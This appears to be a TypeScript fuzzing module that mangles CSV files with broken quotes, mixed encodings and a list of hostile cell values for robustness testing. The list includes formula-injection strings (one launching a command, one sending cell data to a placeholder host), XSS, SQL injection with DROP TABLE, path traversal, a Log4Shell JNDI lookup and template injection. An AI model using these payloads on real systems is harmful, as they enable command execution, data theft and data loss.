import type { Chance } from '../chance';
import { damage } from './bytes';

/** Cells that would run, turn round, hide or break something where they are carried on unlooked at. */
export const hostileWords: readonly string[] = [
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://host.invalid/?"&A1,"Open")',
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\u202eecnaniF',
  'Sur\u200bgery',
  'Surg\u00adery',
  '\ud800',
  '\udfff lone',
  'a\u0000b',
  '\u0007bell',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  ']]>&amp;<!--',
  '../../../../windows/win.ini',
  'CON',
  'NUL.xlsx',
  'trailing. . .',
  '__proto__',
  'constructor',
  "Robert'); DROP TABLE staff;--",
  '%00%0a%0d',
  '${jndi:ldap://host.invalid/a}',
  '{{constructor.constructor("return 1")()}}',
  'e\u0301'.repeat(200),
  'A'.repeat(40_000),
  '👩🏽‍⚕️'.repeat(30),
  'مرحبا \u2067abc\u2069',
  '1e400',
  '-0',
  '0x10',
  '٣٤',
  '31/02/2024',
  '9999-99-99',
  '#REF!',
];

const quoted = (cell: string): string => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);

const lineChanges: readonly ((line: string, chance: Chance) => string)[] = [
  (line, chance) => {
    const cells = line.split(',');
    cells[chance.below(cells.length)] = quoted(chance.pick(hostileWords));
    return cells.join(',');
  },
  (line, chance) => {
    const at = chance.below(line.length);
    return `${line.slice(0, at)}"${line.slice(at)}`;
  },
  (line) => `${line},`.repeat(3),
  () => '',
  (line) => line.replaceAll(',', ';'),
  (line) => `${line}${','.repeat(5000)}`,
  (line) => `"${line}`,
];

const encodings: readonly ((text: string) => Buffer)[] = [
  (text) => Buffer.from(text, 'utf8'),
  (text) => Buffer.from(text, 'utf8'),
  (text) => Buffer.from(`\ufeff${text}`, 'utf8'),
  (text) => Buffer.from(`\ufeff${text}`, 'utf16le'),
  (text) => Buffer.from(text, 'utf16le').swap16(),
  (text) => Buffer.from(text, 'latin1'),
  // The first half in one encoding, the rest in another.
  (text) =>
    Buffer.concat([
      Buffer.from(text.slice(0, text.length / 2), 'utf16le'),
      Buffer.from(text.slice(text.length / 2), 'latin1'),
    ]),
];

/** Separated text with hostile cells, broken quotes, odd line ends and encodings. */
export const changeText = (text: string, chance: Chance): Buffer => {
  const lines = text.split('\n');
  for (let nth = 0; nth < 1 + chance.below(6); nth += 1) {
    const at = chance.below(lines.length);
    lines[at] = chance.pick(lineChanges)(lines[at] ?? '', chance);
  }
  const joined = lines.join(chance.pick(['\n', '\n', '\r\n', '\r', '\r\r\n', '\u2028', '\u0085']));
  const bytes = chance.pick(encodings)(joined);
  return chance.isHit(0.3) ? damage(bytes, chance) : bytes;
};
